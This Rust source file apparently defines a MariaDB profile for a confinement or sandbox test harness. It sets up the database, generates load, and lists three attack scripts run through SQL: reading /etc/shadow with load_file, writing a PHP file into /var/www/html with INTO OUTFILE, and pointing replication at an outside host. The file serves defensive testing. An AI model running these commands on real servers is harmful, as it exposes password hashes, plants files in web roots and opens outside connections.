//! MariaDB with somebody who has all rights in it: files and a foreign master through SQL.

use super::service::{Attack, Service};

pub static SERVICE: Service = Service {
    profile: "mariadb",
    executable: &["/usr/sbin/mariadbd"],
    setup: r#"
mkdir -p /run/mysqld
chown mysql:mysql /run/mysqld
mount -t tmpfs tmpfs /var/lib/mysql
chown mysql:mysql /var/lib/mysql
mariadb-install-db --user=mysql --datadir=/var/lib/mysql >/dev/null 2>&1
"#,
    server: "cd /var/lib/mysql; exec /usr/sbin/mariadbd --user=mysql --server-id=2",
    ready: "mariadb -e \"select 1\"",
    load: "mariadb-slap --auto-generate-sql --auto-generate-sql-load-type=mixed --concurrency=4 --number-of-queries=4000 \
           >/dev/null 2>&1",
    attacks: &[
        Attack {
            what: "the file of password hashes is read",
            kind: "read",
            plant: None,
            script: "mariadb -N -e \"select load_file('/etc/shadow')\" | grep -q ^root:",
        },
        Attack {
            what: "a page is written into the web root",
            kind: "write",
            plant: None,
            script: "mariadb -e \"select 'bad' into outfile '/var/www/html/page.php'\"; sleep 1; test -s /var/www/html/page.php",
        },
        Attack {
            what: "it becomes a copy of a server somewhere else",
            kind: "connect",
            plant: None,
            script: "mariadb -e \"change master to master_host='203.0.113.7', master_port=8081, master_user='x', \
                     master_password='x'; start slave\"; sleep 3; mariadb -e \"stop slave\"; test -s /tmp/reached",
        },
    ],
};
